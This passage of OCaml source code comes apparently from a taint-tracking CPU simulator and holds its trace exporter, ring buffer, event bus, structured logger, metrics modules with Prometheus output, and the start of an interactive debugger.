    instant t ~name:("taint-in " ^ source) ~cat:"taint" ~tid ~ts_us:(us cycle)
      ~args:
        [ ("addr", Printf.sprintf "0x%08x" addr); ("len", string_of_int len);
          ("input-offset", string_of_int offset) ]
      ()
  | Event.Reg_taint { cycle; pc; reg } ->
    instant t ~name:("first taint $" ^ reg) ~cat:"taint" ~tid ~ts_us:(us cycle)
      ~args:[ ("pc", Printf.sprintf "0x%08x" pc) ] ()
  | Event.Tainted_store { cycle; pc; addr; len; region } ->
    instant t ~name:("tainted store to " ^ region) ~cat:"taint" ~tid ~ts_us:(us cycle)
      ~args:
        [ ("pc", Printf.sprintf "0x%08x" pc); ("addr", Printf.sprintf "0x%08x" addr);
          ("len", string_of_int len) ]
      ()
  | Event.Alert { cycle; pc; kind; reg; value } ->
    instant t ~name:("ALERT: " ^ kind) ~cat:"alert" ~tid ~ts_us:(us cycle)
      ~args:
        [ ("pc", Printf.sprintf "0x%08x" pc); ("reg", "$" ^ reg);
          ("value", Printf.sprintf "0x%08x" value) ]
      ()
  | Event.Fault { cycle; pc; desc } ->
    instant t ~name:"fault" ~cat:"alert" ~tid ~ts_us:(us cycle)
      ~args:[ ("pc", Printf.sprintf "0x%08x" pc); ("desc", desc) ] ()
  | Event.Syscall { cycle; pc; name } ->
    instant t ~name:("sys " ^ name) ~cat:"syscall" ~tid ~ts_us:(us cycle)
      ~args:[ ("pc", Printf.sprintf "0x%08x" pc) ] ()
  | Event.Restore { cycle } -> instant t ~name:"snapshot restore" ~cat:"sim" ~tid ~ts_us:(us cycle) ()
  | Event.Fault_injected { cycle; model; target } ->
    instant t ~name:("fault injected: " ^ model) ~cat:"fault" ~tid ~ts_us:(us cycle)
      ~args:[ ("target", target) ] ()
  | Event.Job { name; label; t0_us; dur_us; domain; outcome; trace } ->
    let args = [ ("policy", label); ("outcome", outcome) ] in
    let args =
      match trace with
      | None -> args
      | Some (tid, span) ->
        args
        @ [ ("trace", Printf.sprintf "%016x" tid); ("span", string_of_int span) ]
    in
    complete t ~name ~cat:"campaign" ~tid:domain ~ts_us:t0_us ~dur_us ~args ()

let add_events t ?pid ?tid evs = List.iter (add_event t ?pid ?tid) evs

let contents t =
  Printf.sprintf "{\"traceEvents\":[\n%s\n],\"displayTimeUnit\":\"ms\"}\n" (Buffer.contents t.buf)

let write_file t path =
  let oc = open_out path in
  output_string oc (contents t);
  close_out oc
