(** Chrome [trace_event] JSON exporter.

    Emits the JSON-array format that [chrome://tracing] and Perfetto
    load directly: complete events ([ph:"X"]) for spans such as
    campaign jobs (one track per worker domain) and instant events
    ([ph:"i"]) for the simulator's point events.  {!add_event} maps
    the {!Event.t} taxonomy onto tracks; cycle-stamped events render
    one guest cycle as one microsecond so single-run timelines are
    deterministic. *)

type t

val create : unit -> t

val complete :
  t -> name:string -> ?cat:string -> ?pid:int -> tid:int -> ts_us:float -> dur_us:float ->
  ?args:(string * string) list -> unit -> unit

val instant :
  t -> name:string -> ?cat:string -> ?pid:int -> tid:int -> ts_us:float ->
  ?args:(string * string) list -> unit -> unit

val add_event : t -> ?pid:int -> ?tid:int -> Event.t -> unit
(** [pid] partitions the timeline per process (default [1]), so
    client- and daemon-side traces of the same jobs merge into one
    document without colliding. *)

val add_events : t -> ?pid:int -> ?tid:int -> Event.t list -> unit

val event_count : t -> int

val contents : t -> string
(** The complete JSON document. *)

val write_file : t -> string -> unit
