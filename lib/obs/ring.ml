type 'a t = {
  tags : int array;
  items : 'a array;
  mutable next : int;
  mutable filled : int;
}

let create ~dummy size =
  let size = max 1 size in
  { tags = Array.make size 0; items = Array.make size dummy; next = 0; filled = 0 }

let capacity t = Array.length t.tags
let length t = t.filled
let clear t = t.next <- 0; t.filled <- 0

let push t tag item =
  t.tags.(t.next) <- tag;
  t.items.(t.next) <- item;
  t.next <- (t.next + 1) mod Array.length t.tags;
  if t.filled < Array.length t.tags then t.filled <- t.filled + 1

(* Oldest entry first; the most recent push is last. *)
let to_list t =
  let cap = Array.length t.tags in
  let start = (t.next - t.filled + cap) mod cap in
  List.init t.filled (fun i ->
      let j = (start + i) mod cap in
      (t.tags.(j), t.items.(j)))
