(** Bounded ring buffer of tagged items.

    The instruction-window recorder: the CPU pushes [(pc, insn)] pairs
    and the last [capacity] survive.  Backed by two flat preallocated
    arrays, so a push is two stores and two index updates — no
    allocation, whatever the item type. *)

type 'a t

val create : dummy:'a -> int -> 'a t
(** [create ~dummy n] holds the last [n] (tag, item) pairs ([n] is
    clamped to at least 1); [dummy] fills the unused slots. *)

val push : 'a t -> int -> 'a -> unit
val to_list : 'a t -> (int * 'a) list
(** Oldest first; the most recent push is last. *)

val length : 'a t -> int
val capacity : 'a t -> int
val clear : 'a t -> unit
