(** The typed event bus.

    A [Trace.t] both records the events emitted into it (bounded by
    [limit]; overflow is counted, not silently lost) and fans each one
    out to subscriber sinks, so a live consumer (progress display,
    streaming exporter) and the post-mortem reader share one emission
    point.  Producers hold the trace behind an option — the
    zero-overhead-when-off contract is a single physical-equality
    check on the hot path, never a closure call.

    A trace is single-domain state: each simulated session owns its
    own trace, and campaign-level traces are only written from the
    submitting domain. *)

type sink = Event.t -> unit

type t

val create : ?limit:int -> unit -> t
(** Record up to [limit] events (default 65536); later emissions still
    reach sinks but only bump {!dropped}. *)

val on_event : t -> sink -> unit
(** Subscribe; sinks run synchronously, in subscription order. *)

val emit : t -> Event.t -> unit
val events : t -> Event.t list
(** Everything recorded, in emission order. *)

val taint_sources : t -> Event.t list
(** Just the {!Event.Taint_in} events, in emission order — the
    provenance candidates for an incident report. *)

val length : t -> int
val dropped : t -> int
val clear : t -> unit
