(* Structured, leveled logging with per-domain buffering.

   A logger renders records — timestamp, level, source, message, typed
   key/value fields — to one of two line formats (logfmt or JSON
   lines) and hands the rendered bytes to a sink.  The fast path is
   contention-free: each domain appends to its own buffer (guarded by
   a mutex nobody else touches during normal operation), and only the
   actual sink write takes the shared lock.  Buffers drain when they
   grow past [buffer_bytes], when [flush_every] seconds have passed
   since that domain last drained, or on [flush]/[close] — which walk
   every registered domain buffer so no line is stranded.

   Disabled records cost one level comparison and nothing else: the
   [log] entry point checks [enabled] before rendering, and the
   convenience wrappers ([debug] etc.) inline that check, so a
   compiled-in-but-filtered call site is effectively free (gated in CI
   by the micro/log-off-10k bench row). *)

type level = Debug | Info | Warn | Error

let level_index = function Debug -> 0 | Info -> 1 | Warn -> 2 | Error -> 3

let level_name = function
  | Debug -> "debug"
  | Info -> "info"
  | Warn -> "warn"
  | Error -> "error"

let level_of_string s =
  match String.lowercase_ascii s with
  | "debug" -> Ok Debug
  | "info" -> Ok Info
  | "warn" | "warning" -> Ok Warn
  | "error" -> Ok Error
  | _ -> Error (Printf.sprintf "unknown log level %S" s)

type value = S of string | I of int | F of float | B of bool

type field = string * value

let str k v = (k, S v)
let int k v = (k, I v)
let float k v = (k, F v)
let bool k v = (k, B v)

type format = Logfmt | Json

let format_of_string s =
  match String.lowercase_ascii s with
  | "logfmt" -> Ok Logfmt
  | "json" -> Ok Json
  | _ -> Error (Printf.sprintf "unknown log format %S (expected logfmt or json)" s)

(* {2 Rendering} *)

let ts_string ts =
  let tm = Unix.gmtime ts in
  let ms =
    let f = ts -. Float.of_int (int_of_float ts) in
    Stdlib.min 999 (int_of_float (f *. 1000.))
  in
  Printf.sprintf "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ"
    (tm.Unix.tm_year + 1900) (tm.Unix.tm_mon + 1) tm.Unix.tm_mday
    tm.Unix.tm_hour tm.Unix.tm_min tm.Unix.tm_sec ms

let float_string f =
  if Float.is_integer f && Float.abs f < 1e15 then Printf.sprintf "%.0f" f
  else Printf.sprintf "%g" f

(* logfmt keys must not contain the characters that delimit the
   format itself. *)
let logfmt_key k =
  String.map (fun c -> if c = ' ' || c = '=' || c = '"' || Char.code c < 0x20 then '_' else c) k

let logfmt_needs_quotes s =
  s = ""
  || String.exists (fun c -> c = ' ' || c = '"' || c = '=' || Char.code c < 0x20) s

let logfmt_value b s =
  if not (logfmt_needs_quotes s) then Buffer.add_string b s
  else begin
    Buffer.add_char b '"';
    String.iter
      (fun c ->
        match c with
        | '"' -> Buffer.add_string b "\\\""
        | '\\' -> Buffer.add_string b "\\\\"
        | '\n' -> Buffer.add_string b "\\n"
        | '\r' -> Buffer.add_string b "\\r"
        | '\t' -> Buffer.add_string b "\\t"
        | c when Char.code c < 0x20 ->
          Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
        | c -> Buffer.add_char b c)
      s;
    Buffer.add_char b '"'
  end

let json_string b s =
  Buffer.add_char b '"';
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | '\r' -> Buffer.add_string b "\\r"
      | '\t' -> Buffer.add_string b "\\t"
      | c when Char.code c < 0x20 ->
        Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char b c)
    s;
  Buffer.add_char b '"'

let value_string = function
  | S s -> s
  | I i -> string_of_int i
  | F f -> float_string f
  | B b -> if b then "true" else "false"

let render format ~ts ~level ~src ~msg fields =
  let b = Buffer.create 128 in
  (match format with
   | Logfmt ->
     Buffer.add_string b "ts=";
     Buffer.add_string b (ts_string ts);
     Buffer.add_string b " level=";
     Buffer.add_string b (level_name level);
     Buffer.add_string b " src=";
     logfmt_value b src;
     Buffer.add_string b " msg=";
     logfmt_value b msg;
     List.iter
       (fun (k, v) ->
         Buffer.add_char b ' ';
         Buffer.add_string b (logfmt_key k);
         Buffer.add_char b '=';
         match v with
         | S s -> logfmt_value b s
         | v -> Buffer.add_string b (value_string v))
       fields
   | Json ->
     Buffer.add_string b "{\"ts\":";
     json_string b (ts_string ts);
     Buffer.add_string b ",\"level\":";
     json_string b (level_name level);
     Buffer.add_string b ",\"src\":";
     json_string b src;
     Buffer.add_string b ",\"msg\":";
     json_string b msg;
     List.iter
       (fun (k, v) ->
         Buffer.add_char b ',';
         json_string b k;
         Buffer.add_char b ':';
         match v with
         | S s -> json_string b s
         | v -> Buffer.add_string b (value_string v))
       fields;
     Buffer.add_char b '}');
  Buffer.contents b

(* {2 Sinks} *)

type sink = {
  write : string -> unit;
  flush_sink : unit -> unit;
  close_sink : unit -> unit;
}

let fn_sink f = { write = f; flush_sink = (fun () -> ()); close_sink = (fun () -> ()) }

let buffer_sink b =
  { write = Buffer.add_string b; flush_sink = (fun () -> ()); close_sink = (fun () -> ()) }

let channel_sink oc =
  { write = (fun s -> output_string oc s);
    flush_sink = (fun () -> flush oc);
    close_sink = (fun () -> flush oc) }

(* File sink with size-based rotation: when the next chunk would push
   the file past [max_bytes], the current file is renamed to
   [path ^ ".1"] (replacing any previous rotation) and a fresh file is
   started.  A single chunk larger than the cap is written whole to an
   empty file rather than rotating forever. *)
let file_sink ?max_bytes path =
  let open_log trunc =
    open_out_gen
      [ Open_wronly; Open_creat; (if trunc then Open_trunc else Open_append) ]
      0o644 path
  in
  let oc = ref (open_log false) in
  let bytes = ref (out_channel_length !oc) in
  let write s =
    (match max_bytes with
     | Some cap when !bytes > 0 && !bytes + String.length s > cap ->
       close_out !oc;
       (try Sys.remove (path ^ ".1") with Sys_error _ -> ());
       (try Sys.rename path (path ^ ".1") with Sys_error _ -> ());
       oc := open_log true;
       bytes := 0
     | _ -> ());
    output_string !oc s;
    bytes := !bytes + String.length s
  in
  { write;
    flush_sink = (fun () -> try flush !oc with Sys_error _ -> ());
    close_sink = (fun () -> try close_out !oc with Sys_error _ -> ()) }

(* {2 Logger} *)

type dbuf = { dmu : Mutex.t; db : Buffer.t; mutable last_flush : float }

type t = {
  mutable min_level : int;
  mutable floor : int;
  (* min over [min_level] and every per-source override: a record
     strictly below the floor is disabled for every source, decided by
     one integer comparison with no hashtable lookup — the whole cost
     of a compiled-in-but-disabled call site. *)
  src_levels : (string, int) Hashtbl.t;  (* configure before sharing *)
  format : format;
  clock : unit -> float;
  buffer_bytes : int;
  flush_every : float;
  sink : sink;
  sink_mu : Mutex.t;
  bufs : dbuf list ref;  (* every domain buffer ever registered *)
  bufs_mu : Mutex.t;
  key : dbuf Domain.DLS.key;
  mutable closed : bool;
}

let create ?(level = Info) ?(format = Logfmt) ?(clock = Unix.gettimeofday)
    ?(buffer_bytes = 0) ?(flush_every = 1.0) sink =
  let bufs = ref [] in
  let bufs_mu = Mutex.create () in
  let key =
    Domain.DLS.new_key (fun () ->
        let d = { dmu = Mutex.create (); db = Buffer.create 256; last_flush = 0. } in
        Mutex.lock bufs_mu;
        bufs := d :: !bufs;
        Mutex.unlock bufs_mu;
        d)
  in
  { min_level = level_index level;
    floor = level_index level;
    src_levels = Hashtbl.create 8;
    format;
    clock;
    buffer_bytes;
    flush_every;
    sink;
    sink_mu = Mutex.create ();
    bufs;
    bufs_mu;
    key;
    closed = false }

let refloor t =
  t.floor <- Hashtbl.fold (fun _ li acc -> Stdlib.min li acc) t.src_levels t.min_level

let set_level t level =
  t.min_level <- level_index level;
  refloor t

let set_source_level t src level =
  Hashtbl.replace t.src_levels src (level_index level);
  refloor t

let enabled t ~src level =
  let li = level_index level in
  li >= t.floor
  && (match Hashtbl.find_opt t.src_levels src with
      | Some min -> li >= min
      | None -> li >= t.min_level)

let drain_locked t d =
  (* caller holds d.dmu *)
  if Buffer.length d.db > 0 then begin
    let chunk = Buffer.contents d.db in
    Buffer.clear d.db;
    Mutex.lock t.sink_mu;
    (try
       t.sink.write chunk;
       t.sink.flush_sink ()
     with e ->
       Mutex.unlock t.sink_mu;
       raise e);
    Mutex.unlock t.sink_mu
  end

let log t level ~src msg fields =
  if (not t.closed) && enabled t ~src level then begin
    let now = t.clock () in
    let line = render t.format ~ts:now ~level ~src ~msg fields in
    let d = Domain.DLS.get t.key in
    Mutex.lock d.dmu;
    Buffer.add_string d.db line;
    Buffer.add_char d.db '\n';
    if
      Buffer.length d.db >= t.buffer_bytes
      || now -. d.last_flush >= t.flush_every
    then begin
      d.last_flush <- now;
      drain_locked t d
    end;
    Mutex.unlock d.dmu
  end

let debug t ~src msg fields = if enabled t ~src Debug then log t Debug ~src msg fields
let info t ~src msg fields = if enabled t ~src Info then log t Info ~src msg fields
let warn t ~src msg fields = if enabled t ~src Warn then log t Warn ~src msg fields
let error t ~src msg fields = if enabled t ~src Error then log t Error ~src msg fields

let flush t =
  Mutex.lock t.bufs_mu;
  let bufs = !(t.bufs) in
  Mutex.unlock t.bufs_mu;
  List.iter
    (fun d ->
      Mutex.lock d.dmu;
      (try drain_locked t d with _ -> ());
      Mutex.unlock d.dmu)
    bufs;
  Mutex.lock t.sink_mu;
  (try t.sink.flush_sink () with _ -> ());
  Mutex.unlock t.sink_mu

let close t =
  if not t.closed then begin
    flush t;
    t.closed <- true;
    Mutex.lock t.sink_mu;
    (try t.sink.close_sink () with _ -> ());
    Mutex.unlock t.sink_mu
  end

(* Trace-correlation helper: ids are rendered as fixed-width hex
   everywhere (client log, daemon log, JSONL sinks, Chrome spans) so
   one grep follows a job across processes. *)
let hex_id id = Printf.sprintf "%016x" id
