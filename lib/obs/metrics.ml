type counter = { c_name : string; mutable count : int }

(* Histograms bucket by floor(log2 v) — 63 buckets cover any
   non-negative int-sized observation, and the fixed array keeps
   [observe] allocation-free. *)
type histogram = {
  h_name : string;
  buckets : int array;
  mutable h_count : int;
  mutable sum : float;
  mutable minv : float;
  mutable maxv : float;
}

type metric = Counter of counter | Histogram of histogram

type t = { mutable metrics : metric list (* newest first *) }

let create () = { metrics = [] }

let metric_name = function Counter c -> c.c_name | Histogram h -> h.h_name

let find t name = List.find_opt (fun m -> metric_name m = name) t.metrics

let counter t name =
  match find t name with
  | Some (Counter c) -> c
  | Some (Histogram _) -> invalid_arg ("Metrics.counter: " ^ name ^ " is a histogram")
  | None ->
    let c = { c_name = name; count = 0 } in
    t.metrics <- Counter c :: t.metrics;
    c

let histogram t name =
  match find t name with
  | Some (Histogram h) -> h
  | Some (Counter _) -> invalid_arg ("Metrics.histogram: " ^ name ^ " is a counter")
  | None ->
    let h =
      { h_name = name; buckets = Array.make 63 0; h_count = 0; sum = 0.;
        minv = infinity; maxv = neg_infinity }
    in
    t.metrics <- Histogram h :: t.metrics;
    h

let inc ?(by = 1) c = c.count <- c.count + by

let bucket_of v =
  let v = int_of_float (Float.max v 0.) in
  let rec log2 v acc = if v <= 0 then acc else log2 (v lsr 1) (acc + 1) in
  min 62 (log2 v 0)

let observe h v =
  h.h_count <- h.h_count + 1;
  h.sum <- h.sum +. v;
  if v < h.minv then h.minv <- v;
  if v > h.maxv then h.maxv <- v;
  let b = bucket_of v in
  h.buckets.(b) <- h.buckets.(b) + 1

let mean h = if h.h_count = 0 then 0. else h.sum /. float_of_int h.h_count

type row = {
  name : string;
  kind : string;  (** ["counter"] or ["histogram"] *)
  count : int;
  sum : float;
  min : float;
  max : float;
  mean : float;
}

let row_of = function
  | Counter c ->
    { name = c.c_name; kind = "counter"; count = c.count; sum = float_of_int c.count;
      min = 0.; max = 0.; mean = 0. }
  | Histogram h ->
    { name = h.h_name; kind = "histogram"; count = h.h_count; sum = h.sum;
      min = (if h.h_count = 0 then 0. else h.minv);
      max = (if h.h_count = 0 then 0. else h.maxv);
      mean = mean h }

(* Registration order (metrics is newest-first). *)
let rows t = List.rev_map row_of t.metrics

let merge ~into src =
  List.iter
    (fun m ->
      match m with
      | Counter c -> inc ~by:c.count (counter into c.c_name)
      | Histogram h ->
        let dst = histogram into h.h_name in
        dst.h_count <- dst.h_count + h.h_count;
        dst.sum <- dst.sum +. h.sum;
        if h.minv < dst.minv then dst.minv <- h.minv;
        if h.maxv > dst.maxv then dst.maxv <- h.maxv;
        Array.iteri (fun i n -> dst.buckets.(i) <- dst.buckets.(i) + n) h.buckets)
    (List.rev src.metrics)
