type labels = (string * string) list

type counter = { c_name : string; c_labels : labels; mutable count : int }

type gauge = { g_name : string; g_labels : labels; mutable value : float }

(* Histograms bucket by floor(log2 v) — 63 buckets cover any
   non-negative int-sized observation, and the fixed array keeps
   [observe] allocation-free. *)
type histogram = {
  h_name : string;
  h_labels : labels;
  buckets : int array;
  mutable h_count : int;
  mutable sum : float;
  mutable minv : float;
  mutable maxv : float;
}

type metric = Counter of counter | Gauge of gauge | Histogram of histogram

type t = { mutable metrics : metric list (* newest first *) }

let create () = { metrics = [] }

let metric_name = function
  | Counter c -> c.c_name
  | Gauge g -> g.g_name
  | Histogram h -> h.h_name

let metric_labels = function
  | Counter c -> c.c_labels
  | Gauge g -> g.g_labels
  | Histogram h -> h.h_labels

(* Identity of a metric child is (name, labels): the same name with
   different label sets forms a family of independent children. *)
let find t name labels =
  List.find_opt
    (fun m -> metric_name m = name && metric_labels m = labels)
    t.metrics

let counter t ?(labels = []) name =
  match find t name labels with
  | Some (Counter c) -> c
  | Some _ -> invalid_arg ("Metrics.counter: " ^ name ^ " is not a counter")
  | None ->
    let c = { c_name = name; c_labels = labels; count = 0 } in
    t.metrics <- Counter c :: t.metrics;
    c

let gauge t ?(labels = []) name =
  match find t name labels with
  | Some (Gauge g) -> g
  | Some _ -> invalid_arg ("Metrics.gauge: " ^ name ^ " is not a gauge")
  | None ->
    let g = { g_name = name; g_labels = labels; value = 0. } in
    t.metrics <- Gauge g :: t.metrics;
    g

let histogram t ?(labels = []) name =
  match find t name labels with
  | Some (Histogram h) -> h
  | Some _ -> invalid_arg ("Metrics.histogram: " ^ name ^ " is not a histogram")
  | None ->
    let h =
      { h_name = name; h_labels = labels; buckets = Array.make 63 0;
        h_count = 0; sum = 0.; minv = infinity; maxv = neg_infinity }
    in
    t.metrics <- Histogram h :: t.metrics;
    h

let inc ?(by = 1) c = c.count <- c.count + by

let set g v = g.value <- v

let bucket_of v =
  let v = int_of_float (Float.max v 0.) in
  let rec log2 v acc = if v <= 0 then acc else log2 (v lsr 1) (acc + 1) in
  min 62 (log2 v 0)

let observe h v =
  h.h_count <- h.h_count + 1;
  h.sum <- h.sum +. v;
  if v < h.minv then h.minv <- v;
  if v > h.maxv then h.maxv <- v;
  let b = bucket_of v in
  h.buckets.(b) <- h.buckets.(b) + 1

let mean h = if h.h_count = 0 then 0. else h.sum /. float_of_int h.h_count

type row = {
  name : string;
  labels : labels;
  kind : string;  (** ["counter"], ["gauge"] or ["histogram"] *)
  count : int;
  sum : float;
  min : float;
  max : float;
  mean : float;
}

let row_of = function
  | Counter c ->
    { name = c.c_name; labels = c.c_labels; kind = "counter"; count = c.count;
      sum = float_of_int c.count; min = 0.; max = 0.; mean = 0. }
  | Gauge g ->
    { name = g.g_name; labels = g.g_labels; kind = "gauge"; count = 0;
      sum = g.value; min = g.value; max = g.value; mean = g.value }
  | Histogram h ->
    { name = h.h_name; labels = h.h_labels; kind = "histogram"; count = h.h_count;
      sum = h.sum;
      min = (if h.h_count = 0 then 0. else h.minv);
      max = (if h.h_count = 0 then 0. else h.maxv);
      mean = mean h }

(* Registration order (metrics is newest-first). *)
let rows t = List.rev_map row_of t.metrics

let merge ~into src =
  List.iter
    (fun m ->
      match m with
      | Counter c -> inc ~by:c.count (counter into ~labels:c.c_labels c.c_name)
      | Gauge g ->
        let dst = gauge into ~labels:g.g_labels g.g_name in
        dst.value <- dst.value +. g.value
      | Histogram h ->
        let dst = histogram into ~labels:h.h_labels h.h_name in
        dst.h_count <- dst.h_count + h.h_count;
        dst.sum <- dst.sum +. h.sum;
        if h.minv < dst.minv then dst.minv <- h.minv;
        if h.maxv > dst.maxv then dst.maxv <- h.maxv;
        Array.iteri (fun i n -> dst.buckets.(i) <- dst.buckets.(i) + n) h.buckets)
    (List.rev src.metrics)

(* {2 Prometheus text exposition, format 0.0.4}

   Families are grouped under one [# TYPE] header in registration
   order.  Histogram buckets are rendered cumulatively with [le]
   boundaries matching the internal log2 buckets: bucket 0 covers
   v <= 0 (le="0"), bucket i >= 1 covers values up to 2^i - 1, and
   [+Inf]/[_sum]/[_count] close the family.  Only buckets up to the
   highest populated one are emitted so an idle 63-bucket histogram
   does not dominate the exposition. *)

let sanitize_name name =
  let ok c =
    (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
    || (c >= '0' && c <= '9') || c = '_' || c = ':'
  in
  let s = String.map (fun c -> if ok c then c else '_') name in
  if s = "" then "_"
  else if s.[0] >= '0' && s.[0] <= '9' then "_" ^ s
  else s

let escape_label_value b v =
  String.iter
    (fun c ->
      match c with
      | '\\' -> Buffer.add_string b "\\\\"
      | '"' -> Buffer.add_string b "\\\""
      | '\n' -> Buffer.add_string b "\\n"
      | c -> Buffer.add_char b c)
    v

let add_labels b labels extra =
  let all = labels @ extra in
  if all <> [] then begin
    Buffer.add_char b '{';
    List.iteri
      (fun i (k, v) ->
        if i > 0 then Buffer.add_char b ',';
        Buffer.add_string b (sanitize_name k);
        Buffer.add_string b "=\"";
        escape_label_value b v;
        Buffer.add_char b '"')
      all;
    Buffer.add_char b '}'
  end

let prom_float f =
  if Float.is_integer f && Float.abs f < 1e15 then Printf.sprintf "%.0f" f
  else Printf.sprintf "%.17g" f

let prometheus t =
  let b = Buffer.create 1024 in
  let ordered = List.rev t.metrics in
  (* family names, first-seen order *)
  let names =
    List.fold_left
      (fun acc m ->
        let n = metric_name m in
        if List.mem n acc then acc else n :: acc)
      [] ordered
    |> List.rev
  in
  List.iter
    (fun name ->
      let children = List.filter (fun m -> metric_name m = name) ordered in
      let pname = sanitize_name name in
      let kind =
        match children with
        | Counter _ :: _ -> "counter"
        | Gauge _ :: _ -> "gauge"
        | Histogram _ :: _ -> "histogram"
        | [] -> "untyped"
      in
      Buffer.add_string b (Printf.sprintf "# TYPE %s %s\n" pname kind);
      List.iter
        (fun m ->
          match m with
          | Counter c ->
            Buffer.add_string b pname;
            add_labels b c.c_labels [];
            Buffer.add_string b (Printf.sprintf " %d\n" c.count)
          | Gauge g ->
            Buffer.add_string b pname;
            add_labels b g.g_labels [];
            Buffer.add_char b ' ';
            Buffer.add_string b (prom_float g.value);
            Buffer.add_char b '\n'
          | Histogram h ->
            let top = ref 0 in
            Array.iteri (fun i n -> if n > 0 then top := i) h.buckets;
            let running = ref 0 in
            for i = 0 to !top do
              running := !running + h.buckets.(i);
              let le = if i = 0 then "0" else string_of_int ((1 lsl i) - 1) in
              Buffer.add_string b (pname ^ "_bucket");
              add_labels b h.h_labels [ ("le", le) ];
              Buffer.add_string b (Printf.sprintf " %d\n" !running)
            done;
            Buffer.add_string b (pname ^ "_bucket");
            add_labels b h.h_labels [ ("le", "+Inf") ];
            Buffer.add_string b (Printf.sprintf " %d\n" h.h_count);
            Buffer.add_string b (pname ^ "_sum");
            add_labels b h.h_labels [];
            Buffer.add_char b ' ';
            Buffer.add_string b (prom_float h.sum);
            Buffer.add_char b '\n';
            Buffer.add_string b (pname ^ "_count");
            add_labels b h.h_labels [];
            Buffer.add_string b (Printf.sprintf " %d\n" h.h_count))
        children)
    names;
  Buffer.contents b
