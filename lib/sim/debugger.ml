type t = {
  session : Sim.session;
  mutable breakpoints : (int * string) list; (* address, display name *)
  mutable outcome : Sim.outcome option;
}

let create session = { session; breakpoints = []; outcome = None }
let finished t = t.outcome

let program t = t.session.Sim.s_image.Ptaint_asm.Loader.program
let machine t = t.session.Sim.s_machine
let mem t = t.session.Sim.s_image.Ptaint_asm.Loader.mem

(* --- argument parsing --- *)

let resolve t token =
  match int_of_string_opt token with
  | Some v -> Some (v, token)
  | None -> (
    match Ptaint_asm.Program.symbol (program t) token with
    | Some addr -> Some (addr, token)
    | None -> None)

(* --- rendering --- *)

let current_line t =
  let m = machine t in
  let pc = m.Ptaint_cpu.Machine.pc in
  match Ptaint_cpu.Machine.fetch m pc with
  | Some insn ->
    Printf.sprintf "%08x <%s>  %s" pc
      (Diagnostics.symbolize (program t) pc)
      (Ptaint_isa.Insn.to_string insn)
  | None -> Printf.sprintf "%08x <outside text>" pc

let show_regs t =
  let buf = Buffer.create 256 in
  let m = machine t in
  for r = 1 to 31 do
    let w = Ptaint_cpu.Regfile.get m.Ptaint_cpu.Machine.regs r in
    if not (Ptaint_taint.Tword.equal w Ptaint_taint.Tword.zero) then
      Buffer.add_string buf
        (Format.asprintf "  %-5s %a\n" (Format.asprintf "%a" Ptaint_isa.Reg.pp_sym r) Ptaint_taint.Tword.pp w)
  done;
  Buffer.add_string buf (Printf.sprintf "  pc    0x%08x\n" m.Ptaint_cpu.Machine.pc);
  Buffer.contents buf

let hexdump t addr len =
  let buf = Buffer.create 512 in
  let addr = addr land lnot 15 in
  let rows = (len + 15) / 16 in
  for row = 0 to rows - 1 do
    let base = addr + (row * 16) in
    Buffer.add_string buf (Printf.sprintf "  %08x " base);
    let ascii = Buffer.create 16 in
    for i = 0 to 15 do
      let a = base + i in
      if i mod 8 = 0 then Buffer.add_char buf ' ';
      if Ptaint_mem.Memory.is_mapped (mem t) a then begin
        let v, taint = Ptaint_mem.Memory.load_byte (mem t) a in
        Buffer.add_string buf (Printf.sprintf "%02x%c" v (if taint then '*' else ' '));
        Buffer.add_char ascii (if v >= 32 && v < 127 then Char.chr v else '.')
      end
      else begin
        Buffer.add_string buf "-- ";
        Buffer.add_char ascii '-'
      end
    done;
    Buffer.add_string buf (" |" ^ Buffer.contents ascii ^ "|\n")
  done;
  Buffer.add_string buf "  (* marks tainted bytes)\n";
  Buffer.contents buf

let disassemble t addr count =
  let p = program t in
  let buf = Buffer.create 256 in
  for i = 0 to count - 1 do
    let a = addr + (4 * i) in
    match Ptaint_cpu.Machine.fetch (machine t) a with
    | Some insn ->
      Buffer.add_string buf
        (Printf.sprintf "  %s%08x <%-20s> %s\n"
           (if a = (machine t).Ptaint_cpu.Machine.pc then "=> " else "   ")
           a (Diagnostics.symbolize p a) (Ptaint_isa.Insn.to_string insn))
    | None -> Buffer.add_string buf (Printf.sprintf "   %08x <outside text>\n" a)
  done;
  Buffer.contents buf

let show_taint t =
  let buf = Buffer.create 256 in
  (match Diagnostics.tainted_registers (machine t) with
   | [] -> Buffer.add_string buf "  no tainted registers\n"
   | regs ->
     List.iter
       (fun (name, w) ->
         Buffer.add_string buf
           (Format.asprintf "  %-5s %a\n" ("$" ^ name) Ptaint_taint.Tword.pp w))
       regs);
  (match Ptaint_cpu.Machine.guards (machine t) with
   | [] -> ()
   | gs ->
     Buffer.add_string buf "  guarded ranges:\n";
     List.iter
       (fun (lo, len) -> Buffer.add_string buf (Printf.sprintf "    0x%08x +%d\n" lo len))
       gs);
  Buffer.contents buf

(* --- stepping --- *)

let step_once t =
  match Sim.session_step t.session with
  | Sim.Running -> true
  | Sim.Finished outcome ->
    t.outcome <- Some outcome;
    false

let step_n t n =
  let buf = Buffer.create 256 in
  let rec go i =
    if i >= n then ()
    else begin
      Buffer.add_string buf ("  " ^ current_line t ^ "\n");
      if step_once t then go (i + 1)
      else
        Buffer.add_string buf
          (Format.asprintf "  program stopped: %a\n" Sim.pp_outcome (Option.get t.outcome))
    end
  in
  go 0;
  Buffer.contents buf

let continue_ t =
  let buf = Buffer.create 128 in
  let rec go steps =
    let pc = (machine t).Ptaint_cpu.Machine.pc in
    match List.find_opt (fun (a, _) -> a = pc) t.breakpoints with
    | Some (_, name) when steps > 0 ->
      Buffer.add_string buf (Printf.sprintf "  breakpoint hit: %s\n  %s\n" name (current_line t))
    | _ ->
      if step_once t then go (steps + 1)
      else
        Buffer.add_string buf
          (Format.asprintf "  program stopped after %d steps: %a\n" (steps + 1) Sim.pp_outcome
             (Option.get t.outcome))
  in
  (match t.outcome with
   | Some o -> Buffer.add_string buf (Format.asprintf "  already finished: %a\n" Sim.pp_outcome o)
   | None -> go 0);
  Buffer.contents buf

let help_text =
  "  s [n]              step (default 1 instruction)\n\
